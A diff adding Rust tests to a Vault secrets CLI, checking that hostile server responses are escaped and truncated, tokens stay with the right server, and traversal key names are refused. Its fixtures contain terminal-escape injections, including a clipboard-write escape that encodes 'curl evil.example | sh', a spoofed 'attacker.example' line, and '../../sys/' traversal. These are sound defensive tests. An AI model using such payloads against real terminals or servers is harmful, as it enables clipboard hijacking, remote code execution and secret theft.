@@ -7,6 +7,7 @@
 use crate::common;
 
 use common::bao::{Dev, bao, prefix};
+use common::fake_http::Fake;
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
@@ -260,4 +261,208 @@ fn tampered_remote_settings_are_detected() {
     // Deleting it is caught the same way.
     db.execute("DELETE FROM remotes", []).unwrap();
     env.cmd().args(["remote", "ls"]).assert().code(5);
+}
+
+/// An error body with terminal escapes (clipboard write, title, screen clear) and 5,000 more
+/// bytes.
+fn hostile_errors() -> String {
+    let said = format!(
+        "permission denied\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;owned\x07\x1b[2J\x1b[H\r\u{2028}{}",
+        "A".repeat(5000)
+    );
+    serde_json::json!({ "errors": [said] }).to_string()
+}
+
+fn assert_escaped(err: &str) {
+    assert!(
+        !err.contains(['\x1b', '\x07', '\r', '\u{2028}']),
+        "raw control characters reached the terminal: {err:?}"
+    );
+    assert!(
+        err.len() < 2000,
+        "the server's text is not cut: {} bytes",
+        err.len()
+    );
+}
+
+#[test]
+fn hostile_server_error_bodies_are_escaped_and_cut() {
+    let server = Fake::start(|_| (403, hostile_errors()));
+    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
+    let err = dev.fails(&["pull", "app"], 6);
+    assert!(
+        err.contains("HTTP 403") && err.contains("permission denied"),
+        "{err}"
+    );
+    assert_escaped(&err);
+    let err = dev.fails(&["remote", "login", "team"], 6);
+    assert!(err.contains("HTTP 403"), "{err}");
+    assert_escaped(&err);
+}
+
+#[test]
+fn plain_http_and_credentials_in_a_remote_address_are_refused() {
+    let env = common::cli::Env::new();
+    let add = |args: &[&str]| env.cmd().args(["remote", "add"]).args(args).assert();
+    let out = add(&["corp", "http://vault.corp.example.com:8200"]).code(1);
+    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+    assert!(
+        err.contains("--insecure-http") && err.contains("in clear"),
+        "{err}"
+    );
+    let out = add(&["corp", "https://admin:hunter2@vault.corp.example.com"]).code(1);
+    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+    assert!(
+        err.contains("credentials") && !err.contains("hunter2"),
+        "{err}"
+    );
+    assert_eq!(
+        env.cmd()
+            .args(["remote", "ls", "--json"])
+            .output()
+            .unwrap()
+            .stdout,
+        b"[]\n"
+    );
+    add(&["local", "http://127.0.0.1:8200"]).success();
+    add(&[
+        "corp",
+        "http://vault.corp.example.com:8200",
+        "--insecure-http",
+    ])
+    .success()
+    .stderr(predicates::str::contains("in clear"));
+    let out = env.cmd().args(["remote", "ls"]).output().unwrap();
+    let ls = String::from_utf8_lossy(&out.stdout).to_string();
+    let corp = ls.lines().find(|l| l.starts_with("corp")).unwrap();
+    assert!(corp.contains("insecure http"), "{ls}");
+    let local = ls.lines().find(|l| l.starts_with("local")).unwrap();
+    assert!(!local.contains("insecure"), "{ls}");
+}
+
+#[test]
+fn vault_token_goes_only_to_the_server_vault_addr_names() {
+    let server = Fake::start(|_| (404, "{}".to_string()));
+    let dev = Dev::new(&server.addr, "env-token-for-elsewhere", "devvault");
+    let out = dev
+        .cmd()
+        .env("VAULT_ADDR", "https://vault.other.example:8200")
+        .env("VAULT_SKIP_VERIFY", "1")
+        .args(["pull", "app"])
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    assert!(!out.status.success());
+    assert!(
+        err.contains("VAULT_TOKEN not used for remote team") && err.contains("vault.other.example"),
+        "{err}"
+    );
+    assert!(err.contains("VAULT_SKIP_VERIFY"), "{err}");
+    assert!(
+        server
+            .seen()
+            .iter()
+            .all(|h| !h.contains("env-token-for-elsewhere")),
+        "the token went to another server: {:?}",
+        server.seen()
+    );
+    // `remote login` neither sends VAULT_TOKEN nor ~/.vault-token to another server.
+    std::fs::write(
+        dev.env.dir.path().join(".vault-token"),
+        "home-token-for-elsewhere",
+    )
+    .unwrap();
+    let out = dev
+        .cmd()
+        .env("VAULT_ADDR", "https://vault.other.example:8200")
+        .args(["remote", "login", "team"])
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr).to_string();
+    assert!(!out.status.success());
+    assert!(
+        err.contains("VAULT_TOKEN not used") && err.contains("~/.vault-token not used"),
+        "{err}"
+    );
+    assert!(
+        server.seen().iter().all(|h| !h.contains("for-elsewhere")),
+        "a token went to another server: {:?}",
+        server.seen()
+    );
+    // VAULT_ADDR naming this remote: the token is used (with a trailing slash, any case).
+    dev.cmd()
+        .env("VAULT_ADDR", format!("{}/", server.addr.to_uppercase()))
+        .args(["pull", "app"])
+        .assert()
+        .code(4);
+    let heads = server.seen();
+    let token = heads
+        .iter()
+        .find(|h| h.contains("/v1/secret/data/devvault/app/dev"))
+        .unwrap();
+    assert!(
+        token
+            .to_ascii_lowercase()
+            .contains("x-vault-token: env-token-for-elsewhere"),
+        "{token}"
+    );
+}
+
+#[test]
+fn a_listed_name_that_leaves_the_prefix_is_refused_before_any_request_uses_it() {
+    let server = Fake::start(|req| {
+        let body = if req.contains("/metadata/devvault?") || req.contains("/metadata/devvault/?") {
+            serde_json::json!({"data": {"keys": ["app/", "../../sys/"]}})
+        } else if req.contains("/metadata/devvault/app") {
+            serde_json::json!({"data": {"keys": ["dev"]}})
+        } else {
+            return (404, "{}".into());
+        };
+        (200, body.to_string())
+    });
+    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
+    let err = dev.fails(&["pull", "--all"], 6);
+    assert!(
+        err.contains("../../sys/") && err.contains("not a name"),
+        "{err}"
+    );
+    for head in server.seen() {
+        let line = head.lines().next().unwrap();
+        assert!(
+            !line.contains("..") && !line.contains("/sys"),
+            "requested {line}"
+        );
+    }
+}
+
+/// A KV v2 read answer holding `data` (field -> string).
+fn kv_answer(data: serde_json::Value) -> String {
+    serde_json::json!({"data": {"data": data, "metadata": {"version": 1}}}).to_string()
+}
+
+#[test]
+fn hostile_notes_and_a_70000_byte_name_from_a_remote_are_refused() {
+    let meta = serde_json::json!({"format": 1, "keys": {"API_BASE": {
+        "version": 1, "note": "rotated\u{2028}API_BASE=https://attacker.example\x1b]52;c;eA==\x07"}}})
+    .to_string();
+    let hostile =
+        kv_answer(serde_json::json!({"API_BASE": "https://api.example", "devvault:meta": meta}));
+    let long = kv_answer(serde_json::json!({"K".repeat(70_000): "v"}));
+    let server = Fake::start(move |req| {
+        if req.contains("/data/devvault/app/dev") {
+            (200, hostile.clone())
+        } else if req.contains("/data/devvault/long/dev") {
+            (200, long.clone())
+        } else {
+            (404, "{}".into())
+        }
+    });
+    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
+    let err = dev.fails(&["pull", "app"], 1);
+    assert!(err.contains("note of `API_BASE`"), "{err}");
+    assert_escaped(&err);
+    let err = dev.fails(&["pull", "long"], 6);
+    assert!(err.contains("longer than 256"), "{err}");
+    assert_escaped(&err);
+    dev.cmd().args(["ls", "app"]).assert().code(4);
 }
